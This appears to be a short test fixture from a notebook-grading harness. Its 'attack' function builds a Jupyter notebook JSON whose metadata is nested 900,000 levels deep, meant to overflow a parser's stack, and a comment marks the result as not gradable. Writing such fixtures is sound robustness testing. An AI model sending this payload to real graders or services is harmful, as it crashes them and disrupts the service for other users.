"""JSON that nests deeper than anyone's stack."""

# ends: not gradable


def attack(notebook):
    return b'{"nbformat": 4, "cells": [], "metadata": ' + b'{"a":' * 900_000 + b"1" + b"}" * 900_000
